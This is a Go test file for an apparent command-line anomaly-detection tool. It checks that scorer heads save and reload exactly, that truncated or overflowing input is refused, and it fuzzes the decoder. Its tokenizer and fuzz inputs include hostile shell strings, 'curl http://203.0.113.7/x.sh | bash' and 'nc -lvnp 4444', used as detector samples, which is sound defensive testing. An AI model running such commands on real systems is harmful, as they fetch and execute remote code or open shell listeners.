package tuning

import (
	"bytes"
	"encoding/gob"
	"math/rand"
	"strings"
	"testing"

	"clmids/internal/anomaly"
	"clmids/internal/bpe"
	"clmids/internal/linalg"
	"clmids/internal/model"
	"clmids/internal/nn"
	"clmids/internal/tensor"
)

// TestScorerHeadRoundTrips: every method head reloads into a scorer whose
// scores match the original exactly, over the shared tuning fixture.
func TestScorerHeadRoundTrips(t *testing.T) {
	f := getFixture(t)
	eval := append(append([]string(nil), f.testPos...), f.testNeg...)

	// Each builder returns the scorer plus the encoder a loader must pair
	// the head with — the shared frozen backbone, except for the
	// reconstruction method, which tunes (a clone of) the encoder and
	// serves on the tuned weights.
	builders := map[string]func(t *testing.T) (Scorer, *model.Encoder, error){
		MethodClassifier: func(t *testing.T) (Scorer, *model.Encoder, error) {
			cfg := DefaultClassifierConfig()
			cfg.Epochs = 2
			s, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, cfg)
			return s, f.mdl.Encoder, err
		},
		MethodRetrieval: func(t *testing.T) (Scorer, *model.Encoder, error) {
			s, err := TrainRetrieval(f.mdl.Encoder, f.tok, f.trainX, f.trainY, 1)
			return s, f.mdl.Encoder, err
		},
		MethodPCA: func(t *testing.T) (Scorer, *model.Encoder, error) {
			s, err := TrainPCA(f.mdl.Encoder, f.tok, f.trainX, linalg.PCAOptions{})
			return s, f.mdl.Encoder, err
		},
		MethodReconstruction: func(t *testing.T) (Scorer, *model.Encoder, error) {
			clone := cloneModel(t, f.mdl) // recons tunes the encoder in place
			cfg := DefaultReconsConfig()
			cfg.Rounds = 1
			s, err := TrainReconstruction(clone.Encoder, f.tok, f.trainX, f.trainY, cfg)
			return s, clone.Encoder, err
		},
	}
	for method, build := range builders {
		t.Run(method, func(t *testing.T) {
			s, enc, err := build(t)
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			want, err := s.Score(eval)
			if err != nil {
				t.Fatalf("score: %v", err)
			}
			var buf bytes.Buffer
			if err := SaveScorerHead(&buf, s); err != nil {
				t.Fatalf("save: %v", err)
			}
			// Deterministic serialization: same head, same bytes.
			var buf2 bytes.Buffer
			if err := SaveScorerHead(&buf2, s); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(buf.Bytes(), buf2.Bytes()) {
				t.Fatal("saving the same head twice produced different bytes")
			}

			loaded, gotMethod, err := LoadScorerHead(&buf, enc, f.tok)
			if err != nil {
				t.Fatalf("load: %v", err)
			}
			if gotMethod != method {
				t.Fatalf("loaded method %q, want %q", gotMethod, method)
			}
			got, err := loaded.Score(eval)
			if err != nil {
				t.Fatalf("loaded score: %v", err)
			}
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("score %d diverges: %v vs %v", i, got[i], want[i])
				}
			}
			if _, ok := loaded.(Replicable); !ok {
				t.Fatalf("loaded %s scorer is not replicable", method)
			}
		})
	}
}

// TestLoadScorerHeadRejectsGarbage: truncated, empty, and wrong-backbone
// streams fail with errors, never panics.
func TestLoadScorerHeadRejectsGarbage(t *testing.T) {
	f := getFixture(t)
	s, err := TrainPCA(f.mdl.Encoder, f.tok, f.trainX, linalg.PCAOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := SaveScorerHead(&buf, s); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()

	for _, n := range []int{0, 1, len(full) / 2, len(full) - 1} {
		if _, _, err := LoadScorerHead(bytes.NewReader(full[:n]), f.mdl.Encoder, f.tok); err == nil {
			t.Fatalf("truncation to %d bytes accepted", n)
		}
	}
	if _, _, err := LoadScorerHead(strings.NewReader("not a gob stream at all"), f.mdl.Encoder, f.tok); err == nil {
		t.Fatal("garbage stream accepted")
	}
}

// TestSaveScorerHeadRejectsUnknown: custom scorers outside the four-method
// artifact layer are refused, not silently mis-serialized.
func TestSaveScorerHeadRejectsUnknown(t *testing.T) {
	var buf bytes.Buffer
	if err := SaveScorerHead(&buf, scorerFunc(nil)); err == nil ||
		!strings.Contains(err.Error(), "no persistable head") {
		t.Fatalf("unknown scorer type: %v", err)
	}
	if _, ok := ScorerMethod(scorerFunc(nil)); ok {
		t.Fatal("unknown scorer type has a method name")
	}
}

type scorerFunc func([]string) ([]float64, error)

func (f scorerFunc) Score(lines []string) ([]float64, error) { return f(lines) }

// fuzzBackbone is the tiny untrained backbone (hidden 8) and tokenizer
// FuzzLoadScorerHead loads heads against.
func fuzzBackbone(tb testing.TB) (*model.Encoder, *bpe.Tokenizer) {
	tb.Helper()
	tok, err := bpe.Train([]string{"ls -la /tmp", "curl http://203.0.113.7/x.sh | bash", "nc -lvnp 4444"},
		bpe.TrainConfig{VocabSize: 40})
	if err != nil {
		tb.Fatal(err)
	}
	enc, err := model.NewEncoder(model.Config{
		VocabSize: tok.VocabSize(), MaxSeqLen: 16, Hidden: 8, Layers: 1,
		Heads: 2, FFN: 16, LayerNormEps: 1e-5,
	}, rand.New(rand.NewSource(1)))
	if err != nil {
		tb.Fatal(err)
	}
	return enc, tok
}

// fuzzHeadSeeds returns, for the 8-wide fuzz backbone, one valid head per
// method plus two snapshots whose matrix headers lie: Rows·Cols overflows
// to the length of an empty Data.
func fuzzHeadSeeds(tb testing.TB) [][]byte {
	tb.Helper()
	rng := rand.New(rand.NewSource(2))
	randM := func(rows, cols int) *tensor.Matrix {
		m := tensor.NewMatrix(rows, cols)
		for i := range m.Data {
			m.Data[i] = rng.NormFloat64()
		}
		return m
	}
	ones := func(n int) []float64 {
		v := make([]float64, n)
		for i := range v {
			v[i] = 1
		}
		return v
	}
	ret := anomaly.NewRetrieval(2)
	if err := ret.FitLabeled(randM(6, 8), []bool{true, false, true, false, false, true}); err != nil {
		tb.Fatal(err)
	}
	det := &anomaly.PCADetector{}
	if err := det.Fit(randM(12, 8)); err != nil {
		tb.Fatal(err)
	}
	pca, err := linalg.FitPCA(randM(12, 8), linalg.PCAOptions{})
	if err != nil {
		tb.Fatal(err)
	}
	var seeds [][]byte
	for _, s := range []Scorer{
		&Classifier{
			head: &nn.MLP{
				L1:         &nn.Linear{W: tensor.Var(randM(8, 4)), B: tensor.Var(randM(1, 4))},
				L2:         &nn.Linear{W: tensor.Var(randM(4, 2)), B: tensor.Var(randM(1, 2))},
				Activation: tensor.ReLU,
			},
			std:      &anomaly.Standardizer{Mean: randM(1, 8).Data, Std: ones(8)},
			meanPool: true,
		},
		&RetrievalScorer{ret: ret},
		NewPCAScorer(nil, det),
		&ReconsTuner{pca: pca},
	} {
		var buf bytes.Buffer
		if err := SaveScorerHead(&buf, s); err != nil {
			tb.Fatal(err)
		}
		seeds = append(seeds, buf.Bytes())
	}

	st, err := ret.State()
	if err != nil {
		tb.Fatal(err)
	}
	lyingIndex := *st
	lyingIndex.All = &tensor.Matrix{Rows: 4, Cols: 1 << 62} // 4·2⁶² wraps to 0
	lyingIndex.Labels = []bool{true, true, true, true}
	for _, snap := range []headSnapshot{
		{Format: headFormat, Method: MethodRetrieval, Retrieval: &lyingIndex},
		{Format: headFormat, Method: MethodReconstruction, Recons: &reconsHead{PCA: &linalg.PCA{
			Mean: pca.Mean, W: &tensor.Matrix{Rows: 1 << 61, Cols: 8}, // 2⁶¹·8 wraps to 0
		}}},
	} {
		var buf bytes.Buffer
		if err := gob.NewEncoder(&buf).Encode(&snap); err != nil {
			tb.Fatal(err)
		}
		seeds = append(seeds, buf.Bytes())
	}
	return seeds
}

// FuzzLoadScorerHead feeds arbitrary bytes to the scorer.bin decoder. It
// must refuse what it cannot serve with an error: never panic, never
// allocate a size the input does not back. A head it accepts must score
// and must survive save → load → save byte for byte.
func FuzzLoadScorerHead(f *testing.F) {
	enc, tok := fuzzBackbone(f)
	seeds := fuzzHeadSeeds(f)
	for i, seed := range seeds {
		_, method, err := LoadScorerHead(bytes.NewReader(seed), enc, tok)
		if valid := i < 4; valid != (err == nil) {
			f.Fatalf("seed %d (%s): load error %v, want valid=%v", i, method, err, valid)
		}
		f.Add(seed)
	}
	lines := []string{"ls -la /tmp", "curl http://203.0.113.7/x.sh | bash"}
	f.Fuzz(func(t *testing.T, data []byte) {
		s, method, err := LoadScorerHead(bytes.NewReader(data), enc, tok)
		if err != nil {
			return
		}
		if _, err := s.Score(lines); err != nil {
			t.Fatalf("accepted %s head does not score: %v", method, err)
		}
		var first, second bytes.Buffer
		if err := SaveScorerHead(&first, s); err != nil {
			t.Fatalf("accepted %s head does not save: %v", method, err)
		}
		again, _, err := LoadScorerHead(bytes.NewReader(first.Bytes()), enc, tok)
		if err != nil {
			t.Fatalf("re-saved %s head refused: %v", method, err)
		}
		if err := SaveScorerHead(&second, again); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(first.Bytes(), second.Bytes()) {
			t.Fatalf("%s head: save → load → save changed the bytes", method)
		}
	})
}
